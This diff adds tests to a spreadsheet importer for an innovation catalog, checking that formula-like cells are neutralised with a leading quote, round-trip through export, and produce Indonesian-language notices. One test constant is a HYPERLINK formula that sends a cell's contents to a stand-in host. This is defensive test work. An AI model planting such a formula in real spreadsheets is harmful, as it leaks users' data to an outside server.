@@ -353,6 +353,109 @@ def test_valid_only_writes_good_rows_and_lists_bad_ones():
     assert "2 rejected rows were NOT written" in summary
 
 
+# --- spreadsheet formulas ("CSV injection") -----------------------------------------------------
+HYPERLINK = '=HYPERLINK("http://contoh.test/curi?d="&A1,"Klik di sini")'
+
+
+def _formula_notices(report) -> list[str]:
+    return [n for n in report.notices if "formula" in n]
+
+
+def test_quoted_formula_cells_import_as_the_text_without_the_quote():
+    """The quote an export puts before formula-looking text is removed again (round trip)."""
+    content = make_csv(
+        row(
+            name="'" + HYPERLINK,
+            acronym_expansion="'@SUM(1)",
+            problem="'-2+3 warga antre",
+            solution="'+1 jam layanan",
+        ),
+        row(name="''=1+1 dengan kutip"),  # two quotes: the text keeps one
+        row(name="'Kutip biasa'"),  # a quote before other text is part of the text
+    )
+    report = import_innovations(content)
+    assert report.ok, report.problems
+    assert not _formula_notices(report)
+    innovation = Innovation.objects.get(name=HYPERLINK)
+    assert innovation.acronym_expansion == "@SUM(1)"
+    assert innovation.problem == "-2+3 warga antre"
+    assert innovation.summary == innovation.implementation == "+1 jam layanan"
+    assert set(Innovation.objects.values_list("name", flat=True)) == {
+        HYPERLINK,
+        "'=1+1 dengan kutip",
+        "'Kutip biasa'",
+    }
+
+
+def test_raw_formula_cells_are_imported_as_text_with_a_quote():
+    """A text cell that would run as a formula is neutralised, not rejected: nothing is lost."""
+    content = make_csv(
+        row(name="Biasa"),  # line 2
+        row(
+            name=HYPERLINK,
+            acronym_expansion="@SUM(1)",
+            problem="-2+3 warga antre",  # "-" starts lists: left alone
+            solution="+62 812 0000 layanan",
+        ),  # line 3
+        row(name="  =1+1 ", unit=" @Dinas Sosial"),  # line 4
+    )
+    report = import_innovations(content)
+    assert report.ok and report.written and report.created == 3
+    [notice] = _formula_notices(report)
+    assert notice.startswith("Lines 3, 4:")
+    innovation = Innovation.objects.get(name="'" + HYPERLINK)
+    assert innovation.acronym_expansion == "'@SUM(1)"
+    assert innovation.problem == "-2+3 warga antre"
+    assert innovation.summary == "'+62 812 0000 layanan"
+    other = Innovation.objects.get(name="'=1+1")
+    assert other.unit.name == "'@Dinas Sosial"
+    assert Innovation.objects.filter(name="Biasa").exists()
+
+
+def test_raw_formula_notice_for_one_line_and_in_indonesian():
+    content = make_csv(row(name="=1+1"))
+    report = import_innovations(content)
+    assert _formula_notices(report)[0].startswith("Line 2:")
+    Innovation.objects.all().delete()
+    with translation.override("id"):
+        report = import_innovations(content)
+    assert report.created == 1
+    assert report.notices and not _formula_notices(report)
+    assert "Baris 2" in report.notices[-1]
+
+
+def test_neutralised_text_round_trips_through_the_export():
+    from lumbung.catalog.exporting import export_innovations
+
+    import_innovations(make_csv(row(name=HYPERLINK)), publish=True)
+    stored = Innovation.objects.get().name
+    assert stored == "'" + HYPERLINK
+    out = io.BytesIO()
+    export_innovations(out, fmt="csv")
+    assert "''=HYPERLINK" in out.getvalue().decode("utf-8")
+    Innovation.objects.all().delete()
+    report = import_innovations(out.getvalue())
+    assert report.ok and not _formula_notices(report)
+    assert Innovation.objects.get().name == stored
+
+
+def test_xlsx_text_cells_are_imported_as_they_are():
+    """An XLSX cell has a type: text starting with "=" is text there, not a formula."""
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(COLUMNS)
+    values = row(name="=1+1 teks", solution="'=kutip")
+    sheet.append([values[c] for c in COLUMNS])
+    for cell in sheet[2]:
+        cell.data_type = "s"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    report = import_innovations(buffer.getvalue())
+    assert report.ok and not _formula_notices(report)
+    innovation = Innovation.objects.get()
+    assert (innovation.name, innovation.summary) == ("=1+1 teks", "'=kutip")
+
+
 # --- XLSX ---------------------------------------------------------------------------------------
 def test_xlsx_import():
     workbook = Workbook()
